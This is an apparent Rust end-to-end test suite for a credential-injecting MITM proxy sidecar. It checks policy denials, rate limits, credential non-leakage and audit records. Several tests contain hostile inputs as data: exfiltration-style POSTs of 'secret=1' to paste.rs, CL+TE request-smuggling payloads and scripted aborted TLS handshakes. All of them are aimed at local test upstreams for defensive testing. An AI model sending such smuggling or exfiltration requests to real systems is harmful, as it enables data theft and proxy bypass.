//! http_proxy mode end to end: real `firma sidecar`, curl/Python clients through `--proxy`,
//! a local HTTPS upstream with its own CA, the shipped genai-app runtime policy and mapping
//! rules, and the signed audit file.

use firma_testing::client::*;
use firma_testing::sidecar::*;
use firma_testing::upstream::*;
use firma_testing::*;
use std::time::Duration;

const CANARY: &str = "sk-canary-7f3a9c1e5b";
/// The admin listener on an ephemeral loopback port (its address is in the log).
const ADMIN: &str = "\n[sidecar.admin]\nlisten_addr = \"127.0.0.1:0\"\n";

fn openai_basic_credential() -> String {
    "[[sidecar.credentials]]\nhost = \"api.openai.com\"\nmode = \"basic\"\nheader = \"Authorization\"\nprefix = \"Bearer \"\nvalue_from_env = \"FIRMA_TEST_OPENAI_KEY\"\n".into()
}

fn setup(settings: Settings) -> (Upstream, Deployment, Sidecar) {
    let tmp = tempfile::tempdir().unwrap();
    let up = Upstream::start(
        tmp.path(),
        &[
            "api.openai.com",
            "api.acme-vendor.com",
            "paste.rs",
            "unmapped.example",
        ],
    );
    let d = Deployment::new(Some(&up), &settings);
    // Keep the upstream CA alive with the deployment.
    std::fs::copy(&up.ca_path, d.root().join("upstream-ca.crt")).unwrap();
    std::mem::forget(tmp);
    let sc = d.start(&[("FIRMA_TEST_OPENAI_KEY", CANARY)]);
    (up, d, sc)
}

#[test]
fn allowed_call_gets_injected_credential_and_not_the_clients_own() {
    let (up, d, sc) = setup(Settings {
        extra: openai_basic_credential(),
        ..Settings::default()
    });
    let out = curl(
        &sc.proxy_url(),
        &d.ca_cert(),
        "https://api.openai.com/v1/models?limit=1",
        &[
            "-H",
            "Authorization: Bearer agent-own-key",
            "-H",
            "x-firma-session: s1",
        ],
    );
    assert_eq!(out.status, 200, "{out:?}\n{}", sc.log_text());
    let seen = up.seen();
    assert_eq!(seen.len(), 1);
    let r = &seen[0];
    assert_eq!(r.path, "/v1/models");
    assert_eq!(r.sni.as_deref(), Some("api.openai.com"));
    assert_eq!(r.headers["authorization"], format!("Bearer {CANARY}"));
    assert!(
        r.headers.keys().all(|k| !k.starts_with("x-firma-")),
        "{:?}",
        r.headers
    );
    assert_eq!(r.headers["host"], "api.openai.com");
    assert_eventually(Duration::from_secs(5), "allow audited", || {
        d.audit_for("api.openai.com").iter().any(|e| {
            e["decision"]["outcome"] == "ALLOW"
                && e["connector"]["credential_injected"] == true
                && e["connector"]["credential_source"] == "basic"
                && e["envelope"]["intent"]["action_class"] == "model.inference.chat"
                && e["envelope"]["intent"]["resource"]["path"] == "/v1/models"
        })
    });
}

#[test]
fn http2_client_is_served_over_mitm() {
    let (up, d, sc) = setup(Settings::default());
    let out = std::process::Command::new("curl")
        .args([
            "-sS",
            "--http2",
            "--noproxy",
            "",
            "--proxy",
            &sc.proxy_url(),
            "--cacert",
        ])
        .arg(d.ca_cert())
        .args([
            "-o",
            "/dev/null",
            "-w",
            "%{http_code} %{http_version}",
            "https://api.openai.com/v1/models",
        ])
        .output()
        .unwrap();
    assert_eq!(text(&out.stdout), "200 2", "{}", text(&out.stderr));
    assert_eq!(up.count(), 1);
}

#[test]
fn exfiltration_host_denied_and_upstream_sees_nothing() {
    let (up, d, sc) = setup(Settings {
        extra: openai_basic_credential(),
        ..Settings::default()
    });
    let out = curl(
        &sc.proxy_url(),
        &d.ca_cert(),
        "https://paste.rs/",
        &["-d", "secret=1"],
    );
    assert_eq!(out.status, 403, "{out:?}");
    assert_eq!(out.json()["denied"], true);
    assert_eq!(out.json()["reason"], "PolicyDenied");
    // Plain-HTTP absolute-form through the proxy: same decision.
    let plain = curl(
        &sc.proxy_url(),
        &d.ca_cert(),
        "http://paste.rs/",
        &["-d", "secret=1"],
    );
    assert_eq!(plain.status, 403, "{plain:?}");
    assert_eq!(plain.json()["reason"], "PolicyDenied");
    assert_eq!(up.count(), 0, "a denied call must not reach the upstream");
    assert_eventually(Duration::from_secs(5), "deny audited", || {
        d.audit_for("paste.rs").iter().any(|e| {
            e["decision"]["outcome"] == "DENY"
                && e["decision"]["reason"] == "PolicyDenied"
                && e["connector"]["credential_injected"] == false
        })
    });
}

#[test]
fn unmapped_host_denied_when_default_protected() {
    let (up, d, sc) = setup(Settings::default());
    // Intercepted (MITM'd) but no mapping rule.
    let out = curl(
        &sc.proxy_url(),
        &d.ca_cert(),
        "https://unmapped.example/x",
        &[],
    );
    assert_eq!(out.status, 403, "{out:?}");
    assert_eq!(out.json()["reason"], "UnclassifiedIntent");
    // Not intercepted at all: destination-level decision on CONNECT, readable 403.
    let out = curl(
        &sc.proxy_url(),
        &d.ca_cert(),
        "https://not-intercepted.example/",
        &[],
    );
    assert_ne!(out.status, 200, "{out:?}");
    assert!(out.stderr.contains("403"), "{out:?}");
    assert_eq!(up.count(), 0);
    assert_eventually(Duration::from_secs(5), "tunnel deny audited", || {
        d.audit_for("not-intercepted.example")
            .iter()
            .any(|e| e["decision"]["reason"] == "UnclassifiedIntent")
    });
}

#[test]
fn vendor_calls_capped_at_100_per_session() {
    let (up, d, sc) = setup(Settings::default());
    let urls: Vec<String> = (0..101)
        .map(|i| format!("https://api.acme-vendor.com/v1/send?i={i}"))
        .collect();
    let out = std::process::Command::new("curl")
        .args([
            "-sS",
            "--noproxy",
            "",
            "--proxy",
            &sc.proxy_url(),
            "--cacert",
        ])
        .arg(d.ca_cert())
        .args(["-w", "%{http_code}\n"])
        .args(&urls)
        .output()
        .unwrap();
    // Each line is the response body followed by the status code.
    let codes: Vec<String> = text(&out.stdout)
        .lines()
        .map(|l| l[l.len().saturating_sub(3)..].to_string())
        .collect();
    assert_eq!(codes.len(), 101, "{}", text(&out.stderr));
    assert!(codes[..100].iter().all(|c| c == "200"), "{codes:?}");
    assert_eq!(codes[100], "403");
    assert_eq!(up.count(), 100);
    assert_eventually(
        Duration::from_secs(5),
        "101st audited as PolicyDenied",
        || {
            d.audit_for("api.acme-vendor.com")
                .iter()
                .filter(|e| e["decision"]["reason"] == "PolicyDenied")
                .count()
                == 1
        },
    );
}

#[test]
fn rate_limit_timeout_and_unreachable_upstream_abort_with_reasons() {
    let (up, d, sc) = setup(Settings {
        host_extra: vec![
            (
                "api.openai.com".into(),
                "rps = 1\nburst = 1\ntimeout_ms = 300".into(),
            ),
            ("api.acme-vendor.com".into(), "timeout_ms = 300".into()),
        ],
        extra: ADMIN.into(),
        ..Settings::default()
    });
    let p = sc.proxy_url();
    let ca = d.ca_cert();
    assert_eq!(
        curl(&p, &ca, "https://api.openai.com/v1/models", &[]).status,
        200
    );
    let limited = curl(&p, &ca, "https://api.openai.com/v1/models", &[]);
    assert_eq!(limited.status, 429, "{limited:?}");
    assert_eq!(limited.json()["aborted"], true);
    assert_eq!(limited.json()["reason"], "RateLimited");
    assert_eq!(up.count(), 1, "a rate-limited call is not sent");

    let slow = curl(&p, &ca, "https://api.acme-vendor.com/slow?ms=2000", &[]);
    assert_eq!(slow.status, 504, "{slow:?}");
    assert_eq!(slow.json()["reason"], "UpstreamTimeout");
    assert_eventually(Duration::from_secs(5), "aborts audited", || {
        let ev = d.audit();
        ev.iter()
            .any(|e| e["connector"]["aborted"] == "RateLimited")
            && ev
                .iter()
                .any(|e| e["connector"]["aborted"] == "UpstreamTimeout")
    });
    // Counted by kind on the admin listener (docs/metrics.md).
    assert_eq!(sc.metric("firma_sidecar_rate_limited_total"), Some(1.0));
    assert_eq!(
        sc.metric("firma_sidecar_upstream_errors_total{kind=\"timeout\"}"),
        Some(1.0)
    );
    assert_eq!(
        sc.metric("firma_sidecar_upstream_errors_total{kind=\"unavailable\"}"),
        Some(0.0)
    );
    drop(sc);

    // Upstream address with nothing listening: 502.
    let closed = free_port();
    let s = Settings {
        upstream_hosts: vec![],
        extra: format!(
            "[[sidecar.connector.hosts]]\nhost = \"api.openai.com\"\naddress = \"127.0.0.1:{closed}\"\n{ADMIN}"
        ),
        ..Settings::default()
    };
    d.write(Some(&up), &s);
    let sc = d.start(&[]);
    let out = curl(
        &sc.proxy_url(),
        &ca,
        "https://api.openai.com/v1/models",
        &[],
    );
    assert_eq!(out.status, 502, "{out:?}");
    assert_eq!(out.json()["reason"], "UpstreamUnavailable");
    assert_eq!(
        sc.metric("firma_sidecar_upstream_errors_total{kind=\"unavailable\"}"),
        Some(1.0)
    );
}

#[test]
fn upstream_with_untrusted_certificate_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let up = Upstream::start(tmp.path(), &["api.openai.com"]);
    let d = Deployment::new(Some(&up), &Settings::default());
    // Drop the extra root: the upstream's CA is no longer trusted.
    let cfg = std::fs::read_to_string(&d.config).unwrap();
    let cfg: String = cfg
        .lines()
        .filter(|l| !l.starts_with("extra_root_certs"))
        .map(|l| format!("{l}\n"))
        .collect();
    std::fs::write(&d.config, cfg).unwrap();
    let sc = d.start(&[]);
    let out = curl(
        &sc.proxy_url(),
        &d.ca_cert(),
        "https://api.openai.com/v1/models",
        &[],
    );
    assert_eq!(out.status, 502, "{out:?}");
    assert_eq!(out.json()["reason"], "UpstreamUnavailable");
    assert!(
        out.json()["detail"].as_str().unwrap().contains("TLS"),
        "{out:?}"
    );
    assert_eq!(up.count(), 0);
}

#[test]
fn credential_never_leaks_to_other_hosts_audit_or_logs() {
    let (up, d, sc) = setup(Settings {
        extra: openai_basic_credential(),
        ..Settings::default()
    });
    let p = sc.proxy_url();
    let ca = d.ca_cert();
    assert_eq!(
        curl(&p, &ca, "https://api.openai.com/v1/models", &[]).status,
        200
    );
    assert_eq!(
        curl(
            &p,
            &ca,
            "https://api.acme-vendor.com/v1/send",
            &["-d", "x=1"]
        )
        .status,
        200
    );
    assert_eq!(
        curl(&p, &ca, "https://paste.rs/", &["-d", "x=1"]).status,
        403
    );
    assert_eq!(curl(&p, &ca, "https://unmapped.example/", &[]).status, 403);
    // Only the openai request carries it, and the raw bytes of the others never do.
    for r in up.seen() {
        let all = format!("{:?}{}", r.headers, String::from_utf8_lossy(&r.body));
        if r.headers["host"] == "api.openai.com" {
            assert!(all.contains(CANARY));
        } else {
            assert!(
                !all.contains(CANARY),
                "credential leaked to {}",
                r.headers["host"]
            );
        }
    }
    assert_eq!(up.seen().len(), 2);
    let mut s = sc;
    assert!(s.terminate(Duration::from_secs(10)).is_some());
    assert!(!d.audit_text().contains(CANARY), "credential in audit");
    assert!(!d.audit_text().is_empty());
    assert!(!s.log_text().contains(CANARY), "credential in logs");
    assert!(s.log_text().contains("credential configured"));
}

/// The fallback is opt-in (`fallback_hosts`): api.openai.com opts in here.
#[test]
fn strict_host_mitm_failure_denies_and_non_strict_falls_back() {
    let (up, d, sc) = setup(Settings {
        fallback_hosts: vec!["api.openai.com".into()],
        ..Settings::default()
    });
    let p = sc.proxy_url();
    // A client that does not trust the Firma CA rejects the MITM certificate.
    let empty_ca = d.root().join("empty.pem");
    std::fs::write(&empty_ca, "").unwrap();
    let other_ca = &up.ca_path; // a CA that did not sign our leaf
    let out = curl(&p, other_ca, "https://api.acme-vendor.com/v1/send", &[]);
    assert_eq!(out.status, 0, "TLS must fail: {out:?}");
    assert_eventually(Duration::from_secs(5), "strict failure audited", || {
        d.audit_for("api.acme-vendor.com").iter().any(|e| {
            e["decision"]["reason"] == "MalformedRequest"
                && e["decision"]["detail"]
                    .as_str()
                    .unwrap_or("")
                    .contains("strict host")
        })
    });
    // Still intercepted (no fallback) for a client that trusts us.
    assert_eq!(
        curl(&p, &d.ca_cert(), "https://api.acme-vendor.com/v1/send", &[]).status,
        200
    );

    // A fallback host: the failure switches it to blind tunnelling with a destination decision.
    let out = curl(&p, other_ca, "https://api.openai.com/v1/models", &[]);
    assert_eq!(out.status, 0, "{out:?}");
    assert_eventually(Duration::from_secs(5), "fallback noted", || {
        d.audit_for("api.openai.com").iter().any(|e| {
            e["decision"]["detail"]
                .as_str()
                .unwrap_or("")
                .contains("falling back")
        })
    });
    let before = d.audit_for("api.openai.com").len();
    let _ = curl(&p, &d.ca_cert(), "https://api.openai.com/v1/models", &[]);
    assert_eventually(
        Duration::from_secs(5),
        "destination decision audited",
        || {
            d.audit_for("api.openai.com")
                .iter()
                .skip(before)
                .any(|e| e["envelope"]["intent"]["method"].is_null())
        },
    );
    assert_eq!(up.count(), 1);
}

/// Hostile: clients that start a TLS handshake with the MITM and walk away (a ClientHello,
/// then close; a ClientHello, the ServerHello read, then close) are audited, and do not switch
/// the host to a blind tunnel for everyone behind the same client address: a trusting client
/// right after is still intercepted (credential injected, HTTP decision). Only a client that
/// rejects the certificate with an alert causes the fallback (test above).
#[test]
fn aborted_mitm_handshakes_do_not_cause_a_fallback() {
    let (up, d, sc) = setup(Settings {
        extra: openai_basic_credential(),
        ..Settings::default()
    });
    // The client's TLS runs on memory BIOs: it reads only the bytes handed to it and sends
    // only what is written out, so it can never finish the handshake, however the machine
    // schedules it. (A socket-backed client in non-blocking mode could: descheduled between
    // sending its ClientHello and its first read, it found the whole server flight there and
    // completed the handshake in one call, and the abort was not an abort.)
    let script = r#"
import select, socket, ssl, sys
host, port, ca, read_server_hello = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4] == "1"
for _ in range(3):
    s = socket.create_connection((host, port))
    s.sendall(b"CONNECT api.openai.com:443 HTTP/1.1\r\nHost: api.openai.com:443\r\n\r\n")
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(4096)
        assert chunk, head
        head += chunk
    assert head.startswith(b"HTTP/1.1 200"), head
    ctx = ssl.create_default_context(cafile=ca)
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ctx.wrap_bio(incoming, outgoing, server_hostname="api.openai.com")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    s.sendall(outgoing.read())  # the ClientHello
    # The sidecar has read the ClientHello once its answer arrives, so the close below lands
    # mid-handshake (a close with unread data is a reset, which would discard a ClientHello
    # still queued on the sidecar's side).
    readable, _, _ = select.select([s], [], [], 20)
    assert readable, "no ServerHello within 20 s"
    if read_server_hello:
        # The client reads what arrived; whatever it answers (its Finished) is never sent.
        incoming.write(s.recv(65536))
        try:
            tls.do_handshake()
        except ssl.SSLWantReadError:
            pass
    s.close()
print("aborted")
"#;
    let addr = sc.addr;
    for read_server_hello in ["0", "1"] {
        let out = std::process::Command::new("python3")
            .args(["-c", script])
            .arg(addr.ip().to_string())
            .arg(addr.port().to_string())
            .arg(d.ca_cert())
            .arg(read_server_hello)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}\n{}",
            text(&out.stdout),
            text(&out.stderr)
        );
    }
    if let Err(e) = eventually(
        Duration::from_secs(15),
        "aborted handshakes audited",
        || {
            d.audit_for("api.openai.com")
            .iter()
            .filter(|e| {
                e["decision"]["detail"]
                    .as_str()
                    .unwrap_or("")
                    .contains("did not reject the certificate: no fallback")
            })
            .count()
            // Every one of the six: none of them can have completed its handshake.
            >= 6
        },
    ) {
        let details: Vec<_> = d
            .audit_for("api.openai.com")
            .iter()
            .map(|e| e["decision"]["detail"].to_string())
            .collect();
        panic!("{e}: {details:#?}\n{}", sc.log_text());
    }
    assert!(
        !d.audit_text().contains("falling back"),
        "an aborted handshake switched the host to a blind tunnel"
    );
    // A trusting client right after: intercepted, injected, decided as an HTTP request.
    let out = curl(
        &sc.proxy_url(),
        &d.ca_cert(),
        "https://api.openai.com/v1/chat/completions",
        &["-X", "POST", "-d", "{}"],
    );
    assert_eq!(out.status, 200, "{out:?}");
    assert_eq!(up.count(), 1);
    assert_eq!(
        up.seen()[0].headers["authorization"],
        format!("Bearer {CANARY}")
    );
    assert_eventually(Duration::from_secs(5), "the HTTP decision audited", || {
        d.audit_for("api.openai.com").iter().any(|e| {
            e["event"] == "decision"
                && e["envelope"]["intent"]["method"] == "POST"
                && e["decision"]["outcome"] == "ALLOW"
        })
    });
}

#[test]
fn malformed_input_is_denied_and_audited_without_crashing() {
    let (up, d, sc) = setup(Settings::default());
    let a = sc.addr;
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("garbage", b"\x00\x01\x02\x03 not http\r\n\r\n".to_vec()),
        (
            "oversized headers",
            format!("GET http://api.openai.com/ HTTP/1.1\r\nHost: api.openai.com\r\nX-Big: {}\r\n\r\n", "a".repeat(70 * 1024)).into_bytes(),
        ),
        (
            "CL + TE smuggling",
            b"POST http://api.openai.com/v1/models HTTP/1.1\r\nHost: api.openai.com\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".to_vec(),
        ),
        (
            "duplicate Content-Length",
            b"POST http://api.openai.com/v1/models HTTP/1.1\r\nHost: api.openai.com\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab".to_vec(),
        ),
        ("CONNECT without port", b"CONNECT api.openai.com HTTP/1.1\r\n\r\n".to_vec()),
        ("CONNECT garbage target", b"CONNECT %%%:x HTTP/1.1\r\n\r\n".to_vec()),
        ("origin-form to proxy", b"GET /v1/models HTTP/1.1\r\nHost: api.openai.com\r\n\r\n".to_vec()),
    ];
    for (name, bytes) in &cases {
        let resp = raw_exchange(a, bytes);
        assert!(
            resp.starts_with("HTTP/1.1 400"),
            "{name}: {resp:?}\n{}",
            sc.log_text()
        );
        assert!(
            resp.contains("\"reason\":\"MalformedRequest\""),
            "{name}: {resp:?}"
        );
    }
    // Non-TLS bytes to a MITM host after CONNECT.
    let resp = raw_exchange(
        a,
        b"CONNECT api.openai.com:443 HTTP/1.1\r\nHost: api.openai.com:443\r\n\r\n\x00\x01\x02plain bytes",
    );
    assert!(resp.starts_with("HTTP/1.1 200"), "{resp:?}");
    assert!(
        resp.contains("400 Bad Request") && resp.contains("MalformedRequest"),
        "{resp:?}"
    );
    // Smuggling inside the MITM'd TLS stream (curl sends what we ask).
    let out = curl(
        &sc.proxy_url(),
        &d.ca_cert(),
        "https://api.openai.com/v1/models",
        &[
            "--http1.1",
            "-H",
            "Transfer-Encoding: chunked",
            "-H",
            "Content-Length: 5",
            "-d",
            "hello",
        ],
    );
    assert_eq!(out.status, 400, "{out:?}");
    assert_eventually(
        Duration::from_secs(5),
        "every malformed case audited",
        || {
            d.audit()
                .iter()
                .filter(|e| e["decision"]["reason"] == "MalformedRequest")
                .count()
                == cases.len() + 2
        },
    );
    assert_eq!(up.count(), 0);
    // Still serving.
    assert_eq!(
        curl(
            &sc.proxy_url(),
            &d.ca_cert(),
            "https://api.openai.com/v1/models",
            &[]
        )
        .status,
        200
    );
}

#[test]
fn python_requests_and_httpx_through_the_proxy() {
    let ok = std::process::Command::new("python3")
        .args(["-c", "import requests, httpx"])
        .status()
        .map(|s| s.success())
        .unwrap_or(false);
    if !ok {
        firma_testing::skip(
            "python_clients",
            "python3 with requests and httpx not available (pip install requests httpx)",
        );
        return;
    }
    let (up, d, sc) = setup(Settings {
        extra: openai_basic_credential(),
        ..Settings::default()
    });
    let out = std::process::Command::new("python3")
        .arg(repo_root().join("tests/python/sidecar_clients.py"))
        .env("HTTPS_PROXY", sc.proxy_url())
        .env("HTTP_PROXY", sc.proxy_url())
        .env("SSL_CERT_FILE", d.ca_cert())
        .env("REQUESTS_CA_BUNDLE", d.ca_cert())
        .env_remove("NO_PROXY")
        .env_remove("no_proxy")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}\n{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["requests_openai"], 200);
    assert_eq!(v["httpx_openai"], 200);
    assert_eq!(v["requests_paste"], 403);
    assert_eq!(v["httpx_paste_reason"], "PolicyDenied");
    assert_eq!(up.count(), 2);
    assert!(
        up.seen()
            .iter()
            .all(|r| r.headers["authorization"] == format!("Bearer {CANARY}"))
    );
}

/// Prints per-request latency through the MITM'd proxy vs. straight to the upstream, both
/// over one keep-alive curl connection (debug build: an upper bound, not a benchmark).
#[test]
fn latency_figures_through_proxy_vs_direct() {
    let (up, d, sc) = setup(Settings::default());
    let n = 200;
    let urls: Vec<String> = (0..n)
        .map(|i| format!("https://api.openai.com/v1/models?i={i}"))
        .collect();
    let run = |extra: &[String]| {
        let started = std::time::Instant::now();
        let out = std::process::Command::new("curl")
            .args([
                "-sS",
                "--http1.1",
                "-o",
                "/dev/null",
                "-w",
                "%{http_code}\n",
            ])
            .args(extra)
            .args(&urls)
            .output()
            .unwrap();
        let ok = text(&out.stdout)
            .lines()
            .filter(|l| l.ends_with("200"))
            .count();
        (started.elapsed() / n, ok)
    };
    let (proxied, ok_p) = run(&[
        "--noproxy".into(),
        "".into(),
        "--proxy".into(),
        sc.proxy_url(),
        "--cacert".into(),
        d.ca_cert().display().to_string(),
    ]);
    let (direct, ok_d) = run(&[
        "--noproxy".into(),
        "*".into(),
        "--resolve".into(),
        format!("api.openai.com:443:{}", up.addr.ip()),
        "--connect-to".into(),
        format!("api.openai.com:443:127.0.0.1:{}", up.addr.port()),
        "--cacert".into(),
        up.ca_path.display().to_string(),
    ]);
    // -o applies to the first URL only; every line still ends with the status.
    assert_eq!(ok_p, n as usize);
    assert_eq!(ok_d, n as usize);
    eprintln!(
        "FIGURES: {n} keep-alive requests; via sidecar (MITM + pipeline + audit) {proxied:?}/req, direct {direct:?}/req"
    );
}

/// Hostile half-close: a client that writes its request(s) and shuts down its write side at
/// once (`nc -N`) still gets the answer to the first request, allowed (here forwarded, and
/// aborted: plaintext to the TLS test upstream) or denied, and requests it pipelined before
/// the EOF are each answered too (docs/architecture.md, "Half-close"). The audit holds exactly
/// the decisions that were answered, with the outcome of the forwarded one.
#[test]
fn half_closing_client_gets_every_decision() {
    let (up, d, sc) = setup(Settings::default());
    let body = |r: &str| -> serde_json::Value {
        serde_json::from_str(&r[r.find("\r\n\r\n").map_or(0, |i| i + 4)..]).unwrap_or_default()
    };
    let one = raw_exchange(
        sc.addr,
        b"GET http://api.openai.com/v1/models HTTP/1.1\r\nHost: api.openai.com\r\n\r\n",
    );
    assert!(
        one.starts_with("HTTP/1.1 502"),
        "{one:?}\n{}",
        sc.log_text()
    );
    assert_eq!(body(&one)["reason"], "UpstreamUnavailable", "{one:?}");
    let two = raw_exchange(
        sc.addr,
        b"GET http://paste.rs/a HTTP/1.1\r\nHost: paste.rs\r\n\r\nGET http://paste.rs/b HTTP/1.1\r\nHost: paste.rs\r\n\r\n",
    );
    assert_eq!(two.matches("HTTP/1.1 ").count(), 2, "{two:?}");
    assert_eq!(two.matches("HTTP/1.1 403").count(), 2, "{two:?}");
    let outcome = assert_eventually(Duration::from_secs(5), "the outcome", || {
        d.audit().into_iter().find(|e| {
            e["event"] == "outcome"
                && e["envelope"]["intent"]["resource"]["host"] == "api.openai.com"
        })
    });
    assert_eq!(outcome["connector"]["aborted"], "UpstreamUnavailable");
    assert_eq!(outcome["connector"]["client_gone"], false);
    let openai = d.audit_for("api.openai.com");
    assert_eq!(openai.len(), 1, "{openai:?}");
    assert_eq!(openai[0]["decision"]["outcome"], "ALLOW");
    // Both denials are answered before the connection closes; their events reach the file
    // with the writer's next batch.
    assert_eventually(
        Duration::from_secs(10),
        "both paste.rs denials audited",
        || d.audit_for("paste.rs").len() >= 2,
    );
    let paste = d.audit_for("paste.rs");
    assert_eq!(paste.len(), 2, "one decision per answer: {paste:?}");
    assert_eq!(paste[0]["envelope"]["intent"]["resource"]["path"], "/a");
    assert_eq!(paste[1]["envelope"]["intent"]["resource"]["path"], "/b");
    assert!(
        paste
            .iter()
            .all(|e| e["decision"]["reason"] == "PolicyDenied")
    );
    assert_eq!(up.count(), 0, "no HTTP request reached the upstream");
}
